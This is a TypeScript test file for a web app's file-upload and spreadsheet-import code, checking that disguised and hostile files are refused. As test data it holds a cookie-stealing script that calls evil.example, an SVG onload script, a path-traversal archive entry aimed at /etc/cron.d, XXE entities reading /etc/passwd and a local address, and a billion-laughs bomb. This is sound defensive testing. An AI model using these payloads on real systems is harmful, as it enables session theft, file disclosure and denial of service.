/** Files that mean harm, through the doors that they would come in by; what rules say of each is in test/domain/files. */
import { env } from "cloudflare:test";
import { beforeAll, describe, expect, test } from "vitest";
import { open } from "#db/commit.ts";
import { storeFile } from "#domain/system/files/actions.ts";
import { fromLatin1, join } from "#domain/system/files/bytes.ts";
import { PURPOSES } from "#domain/system/files/purposes.ts";
import { paths } from "#http/paths.ts";
import { readSheet } from "#platform/spreadsheets.ts";
import { archive, XLSX } from "../support/archives.ts";
import { by, insertUploader } from "../support/files.ts";
import { ask, type Person, signIn } from "../support/people.ts";
import { REAL } from "../support/pictures.ts";
import { codeOf } from "../support/refusal.ts";
import { rows } from "../support/users.ts";

beforeAll(insertUploader);
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const HTML = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject>${HTML}</foreignObject></svg>`;

describe("what is something else than it says is taken nowhere", () => {
	test.each<[string, string, Uint8Array]>([
		["a page as a picture", "a.png", utf8(HTML)],
		["a page as a picture, after its first bytes", "a.png", join([REAL.png.slice(0, 8), utf8(HTML)])],
		["a picture with another's name", "a.pdf", REAL.png],
		["a drawing with script", "a.svg", utf8(SVG)],
		["a drawing as a picture", "a.png", utf8(SVG)],
		["a GIF that is a script", "a.gif", utf8("GIF89a=1;alert(1)")],
		["a program", "a.exe", fromLatin1("MZ\x90\x00")],
		["a page with the name of a document", "a.pdf", utf8(HTML)],
		["a shell as a table", "a.csv", join([utf8("#!/bin/sh\n"), Uint8Array.of(0, 1, 2, 3)])],
		["an archive of anything", "a.docx", archive([{ name: "run.exe", content: "MZ" }])],
		["an archive that climbs out", "a.docx", archive([...XLSX, { name: "../../etc/cron.d/x", content: "x" }])],
		["macros", "a.docx", archive([...XLSX, { name: "word/vbaProject.bin", content: "x" }])],
		["nothing", "a.png", new Uint8Array()],
	])("%s", async (_, filename, bytes) => {
		const before = (await env.FILES.list()).objects.length;
		for (const purpose of PURPOSES) {
			const upload = { filename, declaredType: "", bytes };
			const code = await storeFile(env, open(env.DB), { purpose, upload, by }).then(() => "taken", codeOf);
			expect([purpose, String(code)]).toEqual([purpose, expect.stringMatching(/^file\./)]);
		}
		expect((await env.FILES.list()).objects.length).toBe(before);
	});
});

describe("a picture with something behind it", () => {
	let staff: Person;
	beforeAll(async () => {
		staff = await signIn({ roles: ["admin"] });
	});
	test.each([
		["a page", utf8(HTML)],
		["an archive", archive(XLSX)],
	])("loses %s", async (_, behind) => {
		const upload = { filename: "a.png", declaredType: "image/png", bytes: join([REAL.png, behind]) };
		const { id } = await storeFile(env, open(env.DB), { purpose: "logo", upload, by });
		const [row] = await rows<{ object_key: string }>("SELECT object_key FROM files WHERE id = ?", id);
		const stored = await (await env.FILES.get(row?.object_key ?? ""))?.bytes();
		const text = new TextDecoder("latin1").decode(stored);
		expect([text.includes("script"), text.includes("PK\x03\x04")]).toEqual([false, false]);
		// Nobody reaches it by its number alone, and what is shown is shut up in a box.
		expect((await ask(paths.logo(id), { as: staff })).status).toBe(404);
	});
});

describe("a table of a spreadsheet", () => {
	/** An .xlsx by hand, whose only sheet begins with a document type. */
	const workbook = (doctype: string, cell: string): Uint8Array =>
		archive([
			{
				name: "[Content_Types].xml",
				content:
					'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
			},
			{
				name: "_rels/.rels",
				content:
					'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
			},
			{
				name: "xl/_rels/workbook.xml.rels",
				content:
					'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
			},
			{
				name: "xl/workbook.xml",
				content:
					'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
			},
			{
				name: "xl/worksheets/sheet1.xml",
				content: `<?xml version="1.0"?>${doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${cell}</t></is></c></row></sheetData></worksheet>`,
			},
		]);
	const cellsOf = async (doctype: string, cell: string): Promise<string> => {
		const sheets = await readSheet(workbook(doctype, cell), "a.xlsx").catch(codeOf);
		return Array.isArray(sheets) ? JSON.stringify(sheets.map(({ rows }) => rows)) : String(sheets);
	};

	test("reads as it is", async () => {
		expect(await cellsOf("", "甲")).not.toContain("root:");
		expect(await cellsOf("", "abc")).toBe('[[["abc"]]]');
	});
	test("reaches no file and no address by an entity", async () => {
		for (const from of ["file:///etc/passwd", "http://127.0.0.1/secret"]) {
			const found = await cellsOf(`<!DOCTYPE x [<!ENTITY x SYSTEM "${from}">]>`, "[&x;]");
			expect(found).toMatch(/^(?:import\.|\[\[\["\[(?:&x;)?\]"\]\]\])/);
		}
	});
	test("does not swell: a billion laughs are none", async () => {
		const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
		const found = await cellsOf(`<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`, "&l9;");
		expect(found.length).toBeLessThan(100);
	});
});
